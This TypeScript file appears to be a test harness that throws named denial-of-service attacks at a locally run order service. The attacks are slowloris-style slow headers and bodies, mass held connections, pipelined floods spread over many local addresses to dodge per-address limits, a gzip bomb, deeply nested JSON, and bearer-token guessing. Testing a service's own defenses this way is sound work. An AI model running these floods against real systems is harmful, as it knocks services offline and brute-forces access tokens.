import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

/** What an attack is told, as JSON in the only argument of this process. */
export interface AttackPlan {
  readonly attack: string;
  readonly port: number;
  readonly adminPort: number;
  /** The only address from which the attack comes; null: it comes from many. */
  readonly from: string | null;
  /** A proven caller's token: for attacks that anybody with one token can make. */
  readonly token: string;
}

/** Addresses of this machine, so that a limit for one address is not all that stands in the way. */
const addressesOf = (count: number): readonly string[] =>
  Array.from(
    { length: count },
    (_, index) => `127.0.${1 + (index % 4)}.${1 + Math.floor(index / 4)}`,
  );
const signed =
  'webhook-id: msg_1\r\nwebhook-timestamp: 1700000000\r\nwebhook-signature: v1,AAAA\r\n';
const head = (more: string): string =>
  `POST /v1/orders HTTP/1.1\r\nhost: shop\r\ncontent-type: application/json\r\n${more}\r\n`;

const plan: AttackPlan = JSON.parse(process.argv[2] ?? '{}');
const addresses =
  plan.from === null ? addressesOf(plan.attack === 'pipelining_of_many' ? 400 : 20) : [plan.from];
const port = plan.attack === 'two_gets' ? plan.adminPort : plan.port;
/** The attack lasts until the standard input is closed. */
let over = false;
process.stdin.resume().once('end', () => (over = true));
const isOver = (): boolean => over;

/** Opens a connection from one of the addresses. Its errors are what the attack provokes. */
function open(index: number, onData: 'read' | 'unread' = 'read'): Socket {
  const socket = connect({
    port,
    host: '127.0.0.1',
    localAddress: addresses[index % addresses.length] ?? '',
  });
  socket.on('error', () => undefined);
  if (onData === 'read') socket.resume();
  return socket;
}

/**
 * Sends parts on one connection until the attack is over; opens another when the worker closes it.
 */
async function flood(
  index: number,
  parts: () => Iterable<string | Buffer>,
  onData?: 'read' | 'unread',
): Promise<void> {
  while (!isOver()) {
    const socket = open(index, onData);
    for (const part of parts()) {
      if (socket.destroyed || isOver()) break;
      if (!socket.write(part)) {
        await new Promise<void>((resolve) => {
          const done = (): void => resolve();
          socket.once('drain', done).once('close', done);
          // It may be over meanwhile.
          setTimeout(done, 1000).unref();
        });
      }
    }
    if (!socket.destroyed && !isOver()) {
      await new Promise<void>((resolve) => {
        socket.once('close', () => resolve());
        setTimeout(resolve, 1000).unref();
      });
    }
    socket.destroy();
    await sleep(1);
  }
}

const many = (count: number, one: (index: number) => Promise<void>): Promise<unknown> =>
  Promise.all(Array.from({ length: count }, (_, index) => one(index)));

/**
 * Connections that are opened once, and again when they are closed, and on which next to nothing is
 * sent.
 */
async function hold(count: number, first: string, drip: string | null): Promise<void> {
  const sockets: Socket[] = [];
  while (!isOver()) {
    for (let index = 0; index < count && !isOver(); index += 1) {
      if (sockets[index] === undefined || sockets[index]?.destroyed === true) {
        const socket = open(index);
        sockets[index] = socket;
        if (first !== '') socket.write(first);
        if (index % 50 === 49) await sleep(1);
      } else if (drip !== null) sockets[index]?.write(drip);
    }
    await sleep(200);
  }
  for (const socket of sockets) socket.destroy();
}

const post = (body: string | Buffer, more = ''): string =>
  head(
    `authorization: Bearer ${plan.token}\r\n${more}content-length: ${Buffer.byteLength(body)}\r\n`,
  );

const unknownKeys = `{${Array.from({ length: 60_000 }, (_, index) => `"quantty${index}":1`).join(',')}}`;
const deepJson = '['.repeat(500_000);
/** Requests one after the other on connections whose answers nobody reads. */
const pipeline = (
  connections: number,
  request = 'GET /docs HTTP/1.1\r\nhost: shop\r\n\r\n',
): Promise<unknown> =>
  many(connections, (index) =>
    flood(
      index,
      function* () {
        const requests = Buffer.from(request.repeat(1000));
        for (;;) yield requests;
      },
      'unread',
    ),
  );

const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
  /**
   * A body that arrives in a million parts of one byte, of a signature that nobody has checked yet.
   */
  tiny_parts: () =>
    many(20, (index) =>
      flood(index, function* () {
        yield head(`${signed}transfer-encoding: chunked\r\n`);
        const parts = Buffer.from('1\r\n[\r\n'.repeat(10_000));
        for (let sent = 0; sent < 100; sent += 1) yield parts;
      }),
    ),
  pipelining: () => pipeline(200),
  /** The same at once from so many addresses that to shut out one of them stops little. */
  pipelining_of_many: () => pipeline(400),
  /** Node answers these itself. */
  no_host: () => pipeline(384, 'GET / HTTP/1.1\r\n\r\n'),
  expect: () => pipeline(384, 'GET / HTTP/1.1\r\nhost: shop\r\nexpect: a\r\n\r\n'),
  many_headers: () =>
    many(64, (index) =>
      flood(index, function* () {
        const headers = Array.from({ length: 900 }, (_, number) => `a${number}: b\r\n`).join('');
        yield `GET / HTTP/1.1\r\nhost: shop\r\nconnection: close\r\n${headers}\r\n`;
      }),
    ),
  held_connections: () => hold(3000, '', null),
  slow_headers: () => hold(3000, 'POST /v1/orders HTTP/1.1\r\nhost: shop\r\n', 'x-a: b\r\n'),
  slow_bodies: () =>
    hold(
      3000,
      `${head(`${signed}content-length: 1000000\r\n`)}${' '.repeat(2000)}`,
      ' '.repeat(500),
    ),
  unknown_keys: () =>
    many(10, (index) =>
      flood(index, function* () {
        yield post(unknownKeys);
        yield unknownKeys;
      }),
    ),
  gzip_and_deep_json: () =>
    many(20, (index) =>
      flood(index, function* () {
        const body = index % 2 === 0 ? gzipSync(Buffer.alloc(100_000_000)) : deepJson;
        yield post(body, index % 2 === 0 ? 'content-encoding: gzip\r\n' : '');
        yield body;
      }),
    ),
  /** Two requests in one packet, to the listener of health checks. */
  two_gets: () =>
    many(4, (index) => flood(index, () => ['GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(2)])),
  /** Some streaming proxies hand on parts of one byte as they come. */
  tiny_chunks_behind_proxy: () =>
    many(1, async () => {
      while (!isOver()) {
        const socket = open(0);
        socket.setNoDelay(true).write(head(`${signed}transfer-encoding: chunked\r\n`));
        while (!socket.destroyed && !isOver()) {
          socket.write('1\r\n[\r\n'.repeat(20));
          await sleep(1);
        }
      }
    }),
  /** A hundred wrong tokens at once, and then fifty a second. */
  guessing: async () => {
    for (let sent = 0; !isOver(); sent += 1) {
      const asked = `GET /v1/orders/shop/1 HTTP/1.1\r\nhost: shop\r\nauthorization: Bearer wrong-token-${sent}\r\n`;
      open(0).write(`${asked}connection: close\r\n\r\n`);
      if (sent >= 100) await sleep(20);
    }
  },
  /** One address holds the memory of bodies that nobody has checked yet. */
  held_bodies: () =>
    hold(18, `${head(`${signed}content-length: 1048576\r\n`)}${' '.repeat(1_048_575)}`, null),
  wrong_tokens: () =>
    many(50, async (index) => {
      await flood(index, function* () {
        for (let sent = 0; sent < 200; sent += 1)
          yield `GET /v1/orders/shop/1 HTTP/1.1\r\nhost: shop\r\nauthorization: Bearer wrong-token-${index}-${sent}\r\n\r\n`;
      });
    }),
};

const run = attacks[plan.attack];
if (run === undefined) throw new Error(`no such attack: ${plan.attack}`);
process.stdout.write('attacking\n');
await run();
process.exit(0);
